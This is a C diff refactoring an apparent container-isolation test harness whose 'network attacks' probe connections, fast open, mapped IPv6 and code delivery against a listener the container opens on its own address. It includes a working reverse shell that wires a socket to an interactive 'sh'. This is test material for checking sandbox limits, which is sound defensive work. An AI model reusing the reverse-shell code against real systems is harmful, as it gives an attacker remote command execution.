@@ -74,21 +74,39 @@ int listener_at(const char *address, int port)
 	return fd;
 }
 
+/* Whom an attack connects to: somebody of this container's own, who listens. */
+struct peer {
+	const char *address;
+	int port;
+	int listener;
+	struct sockaddr_in at;
+};
+
+/* Makes one of ADDRESS and PORT. Anything but 0 is how the attack has ended instead. */
+static int make_peer(const char *usage, int argc, char **argv, struct peer *peer)
+{
+	if (argc != 2)
+		return misused(usage);
+	peer->address = argv[0];
+	peer->port = atoi(argv[1]);
+	peer->at = internet_address(peer->address, peer->port);
+	if (own_address(peer->address) < 0)
+		return impossible("the network leads somewhere, or cannot be changed");
+	peer->listener = listener_at(peer->address, peer->port);
+	return peer->listener < 0 ? refused("listen") : 0;
+}
+
 /* connect ADDRESS PORT */
 static int connect_to(int argc, char **argv)
 {
-	struct sockaddr_in to;
-	int fd;
+	struct peer peer;
+	int fd, ended;
 
-	if (argc != 2)
-		return misused("connect ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	if (listener_at(argv[0], atoi(argv[1])) < 0)
-		return refused("listen");
-	to = internet_address(argv[0], atoi(argv[1]));
+	ended = make_peer("connect ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
 	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
+	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
 		return refused("connect");
 	return took_effect();
 }
@@ -96,18 +114,14 @@ static int connect_to(int argc, char **argv)
 /* connect-fast ADDRESS PORT: what is sent opens the connection. */
 static int connect_fast(int argc, char **argv)
 {
-	struct sockaddr_in to;
-	int fd;
+	struct peer peer;
+	int fd, ended;
 
-	if (argc != 2)
-		return misused("connect-fast ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	if (listener_at(argv[0], atoi(argv[1])) < 0)
-		return refused("listen");
-	to = internet_address(argv[0], atoi(argv[1]));
+	ended = make_peer("connect-fast ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
 	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (fd < 0 || sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to)) < 0)
+	if (fd < 0 || sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
 		return errno == EOPNOTSUPP ? impossible("a kernel without TCP fast open") : refused("sendto");
 	return took_effect();
 }
@@ -116,18 +130,16 @@ static int connect_fast(int argc, char **argv)
 static int connect_mapped(int argc, char **argv)
 {
 	struct sockaddr_in6 to = { .sin6_family = AF_INET6 };
+	struct peer peer;
 	char mapped[64];
-	int fd;
+	int fd, ended;
 
-	if (argc != 2)
-		return misused("connect-mapped ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	if (listener_at(argv[0], atoi(argv[1])) < 0)
-		return refused("listen");
-	snprintf(mapped, sizeof(mapped), "::ffff:%s", argv[0]);
+	ended = make_peer("connect-mapped ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
+	snprintf(mapped, sizeof(mapped), "::ffff:%s", peer.address);
 	inet_pton(AF_INET6, mapped, &to.sin6_addr);
-	to.sin6_port = htons((uint16_t)atoi(argv[1]));
+	to.sin6_port = htons((uint16_t)peer.port);
 	fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
 	if (fd < 0)
 		return errno == EAFNOSUPPORT ? impossible("no IPv6") : refused("socket");
@@ -139,21 +151,16 @@ static int connect_mapped(int argc, char **argv)
 /* accept ADDRESS PORT: somebody comes from outside; it is ourselves. */
 static int accept_at(int argc, char **argv)
 {
-	struct sockaddr_in to;
-	int listener, fd, accepted;
+	struct peer peer;
+	int fd, accepted, ended;
 
-	if (argc != 2)
-		return misused("accept ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	listener = listener_at(argv[0], atoi(argv[1]));
-	if (listener < 0)
-		return refused("listen");
-	to = internet_address(argv[0], atoi(argv[1]));
+	ended = make_peer("accept ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
 	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
+	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
 		return refused("connect");
-	accepted = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
+	accepted = accept4(peer.listener, NULL, NULL, SOCK_CLOEXEC);
 	return accepted < 0 ? refused("accept") : took_effect();
 }
 
@@ -161,20 +168,17 @@ static int accept_at(int argc, char **argv)
 static int receive_code(int argc, char **argv)
 {
 	static const char code[] = "\xca\xfe\xba\xbe\x00\x00\x00\x41";
-	struct sockaddr_in to;
+	struct peer peer;
 	char buffer[64];
-	int listener, fd, accepted;
+	int fd, accepted, ended;
 
-	if (argc != 2)
-		return misused("receive-code ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	listener = listener_at(argv[0], atoi(argv[1]));
-	to = internet_address(argv[0], atoi(argv[1]));
+	ended = make_peer("receive-code ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
 	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (listener < 0 || fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
+	if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
 		return refused("connect");
-	accepted = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
+	accepted = accept4(peer.listener, NULL, NULL, SOCK_CLOEXEC);
 	if (accepted < 0 || write_all(accepted, code, sizeof(code) - 1) < 0)
 		return refused("accept");
 	return recv(fd, buffer, sizeof(buffer), 0) == (ssize_t)sizeof(code) - 1 ? took_effect() : refused("recv");
@@ -360,29 +364,25 @@ static int hear_from(int listener, pid_t shell)
 static int reverse_shell(int argc, char **argv)
 {
 	char *words[] = { "sh", "-i", NULL };
-	int listener;
+	struct peer peer;
 	pid_t shell;
+	int ended;
 
-	if (argc != 2)
-		return misused("reverse-shell ADDRESS PORT");
-	if (own_address(argv[0]) < 0)
-		return impossible("the network leads somewhere, or cannot be changed");
-	listener = listener_at(argv[0], atoi(argv[1]));
-	if (listener < 0)
-		return refused("listen");
+	ended = make_peer("reverse-shell ADDRESS PORT", argc, argv, &peer);
+	if (ended != 0)
+		return ended;
 	shell = fork();
 	if (shell == 0) {
-		struct sockaddr_in to = internet_address(argv[0], atoi(argv[1]));
 		int fd = socket(AF_INET, SOCK_STREAM, 0);
 
-		if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
+		if (fd < 0 || connect(fd, (struct sockaddr *)&peer.at, sizeof(peer.at)) < 0)
 			_exit(REFUSED);
 		for (int standard = 0; standard <= 2; standard++)
 			if (dup2(fd, standard) < 0)
 				_exit(REFUSED);
 		_exit(run_chain(2, words));
 	}
-	return shell < 0 ? refused("fork") : hear_from(listener, shell);
+	return shell < 0 ? refused("fork") : hear_from(peer.listener, shell);
 }
 
 const struct attack network_attacks[] = {
